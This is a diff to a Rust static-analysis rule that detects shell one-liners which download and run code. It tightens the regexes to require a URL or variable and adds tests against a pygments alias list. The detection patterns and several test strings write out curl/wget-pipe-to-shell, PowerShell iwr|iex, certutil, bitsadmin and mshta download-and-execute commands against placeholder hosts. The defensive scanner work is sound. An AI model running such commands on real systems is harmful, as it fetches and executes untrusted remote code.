@@ -14,7 +14,8 @@ pub static INFO: RuleInfo = RuleInfo {
     id: "shell-downloader",
     severity: Severity::High,
     summary: "A shell one-liner downloads and runs code (curl|sh, PowerShell IEX, certutil...)",
-    help: "Reports command strings that fetch content and execute it: curl/wget piped into a \
+    help: "Reports command strings that fetch content and execute it: curl/wget of a URL (or \
+           a variable) piped into a \
            shell or Python, download-then-chmod-and-run, PowerShell Invoke-Expression with \
            DownloadString/Invoke-WebRequest or -EncodedCommand, certutil -urlcache, mshta with \
            a URL, bitsadmin /transfer, regsvr32 /i:http. In Python code these are critical at \
@@ -23,19 +24,26 @@ pub static INFO: RuleInfo = RuleInfo {
            Installation instructions in documentation are not scanned.",
 };
 
+/// What a downloader fetches: a URL (with or without a scheme: `host.tld/path`, an IPv4
+/// address), or a shell/batch/PowerShell variable holding one. Required so that a word list
+/// mentioning `curl ... sh` or `iex ... irm` is not a command.
+const TARGET: &str = r#"(['"(]?\s*(https?|ftp)://|\$\{?[A-Za-z_]|%[A-Za-z_]+%|[\s'"(][\w-]+(\.[\w-]+)+(:\d+)?/|[\s'"(@]\d{1,3}(\.\d{1,3}){3}\b)"#;
+
 static PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
+    let t = TARGET;
+    let web = r"(invoke-webrequest|\biwr|invoke-restmethod|\birm)";
     RegexSet::new([
-        r"(?i)\b(curl|wget)\b[^|;\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
-        r"(?i)\b(curl|wget)\b[^|;\n]*\|\s*(sudo\s+)?python[0-9.]*\b",
-        r"(?i)\b(curl|wget)\b[^\n]*\s(-o|-O|--output(-document)?)\s*\S+[^\n]*(&&|;)\s*(chmod\s+[+0-7ux]+|\./|sh\s|bash\s|start\s)",
-        r"(?i)powershell(\.exe)?\b[^\n]*\s-(e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
-        r"(?i)\b(iex|invoke-expression)\b[^\n]*(downloadstring|downloaddata|net\.webclient|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)",
-        r"(?i)(downloadstring|downloaddata|net\.webclient|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)[^\n]*(\|\s*(iex|invoke-expression)\b|;\s*(iex|invoke-expression|start-process)\b)",
-        r"(?i)certutil(\.exe)?[^\n]*-urlcache",
-        r"(?i)\bmshta(\.exe)?\s+\W?(https?|vbscript|javascript):",
-        r"(?i)bitsadmin(\.exe)?[^\n]*/transfer",
-        r"(?i)regsvr32(\.exe)?[^\n]*/i:\s*https?",
-        r"(?i)rundll32(\.exe)?[^\n]*javascript:",
+        format!(r"(?i)\b(curl|wget)\b[^|;\n]*{t}[^|;\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b"),
+        format!(r"(?i)\b(curl|wget)\b[^|;\n]*{t}[^|;\n]*\|\s*(sudo\s+)?python[0-9.]*\b"),
+        format!(r"(?i)\b(curl|wget)\b[^\n]*{t}[^\n]*(&&|;)\s*(chmod\s+[+0-7ux]+|\./|sh\s|bash\s|start\s)"),
+        r"(?i)powershell(\.exe)?\b[^\n]*\s-(e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}".to_string(),
+        format!(r"(?i)\b(iex|invoke-expression)\b[^\n]*(downloadstring\s*\(|downloaddata\s*\(|net\.webclient|{web}(\s+-\w+)*\s+{t})"),
+        format!(r"(?i)(downloadstring\s*\(|downloaddata\s*\(|{web}(\s+-\w+)*\s+{t})[^\n]*(\|\s*(iex|invoke-expression)\b|;\s*(iex|invoke-expression|start-process)\b)"),
+        format!(r"(?i)certutil(\.exe)?[^\n]*-urlcache[^\n]*{t}"),
+        r"(?i)\bmshta(\.exe)?\s+\W?(https?|vbscript|javascript):".to_string(),
+        format!(r"(?i)bitsadmin(\.exe)?[^\n]*/transfer[^\n]*{t}"),
+        r"(?i)regsvr32(\.exe)?[^\n]*/i:\s*https?".to_string(),
+        r"(?i)rundll32(\.exe)?[^\n]*javascript:".to_string(),
     ])
     .expect("regex")
 });
@@ -162,5 +170,43 @@ mod tests {
         );
         let doc = "def f():\n    \"\"\"Install with: curl https://example.invalid | sh\"\"\"\n";
         assert_eq!(worst("shell-downloader", "pkg/a.py", doc), None);
+    }
+
+    #[test]
+    fn pygments_keyword_list_is_not_a_shell_downloader() {
+        // pygments/lexers/shell.py: PowerShell aliases, one implicitly concatenated literal.
+        let aliases = "ac asnp cat cd cfs chdir clc clear clhy cli clp cls clv cnsn compare copy \
+                       cp cpi cpp curl cvpa dbp del diff dir dnsn ebp echo epal gwmi h history \
+                       icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp ls man md \
+                       set shcm si sl sleep sls sort sp start sujb sv swmi tee trcm type wget \
+                       where wjb write";
+        assert_eq!(matches(aliases), None);
+        let words = "curl | sh; wget -O out && chmod +x ; iex | iwr";
+        assert_eq!(matches(words), None);
+        let src = format!("aliases_ = ('{aliases}').split()\n");
+        assert_eq!(
+            worst("shell-downloader", "pygments/lexers/shell.py", &src),
+            None
+        );
+    }
+
+    #[test]
+    fn real_one_liners_with_url_or_variable_still_match() {
+        assert!(matches("curl -s \"$URL\" | sh").is_some());
+        assert!(matches("wget -O- ${SRC}/i.sh | bash").is_some());
+        assert!(matches("iwr -Uri http://x.example.invalid/a.ps1 | iex").is_some());
+        assert!(matches("IEX (iwr 'http://x.example.invalid/a.ps1')").is_some());
+        assert!(matches("irm $u | iex").is_some());
+        assert!(matches("iwr -UseBasicParsing -Uri http://x.example.invalid/a | iex").is_some());
+        assert!(matches(
+            "bitsadmin /transfer j /download /priority high http://x.example.invalid/a.exe %TEMP%\\a.exe"
+        )
+        .is_some());
+        assert!(matches("mshta http://x.example.invalid/a.hta").is_some());
+        assert!(matches("certutil -urlcache -f %URL% a.exe && a.exe").is_some());
+        // No scheme: a host with a path, or a bare IPv4 address.
+        assert!(matches("curl -s get.example.invalid/i.sh | bash").is_some());
+        assert!(matches("wget -qO- 192.0.2.7 | sh").is_some());
+        assert!(matches("curl -sL 192.0.2.7:8080/x|python3").is_some());
     }
 }
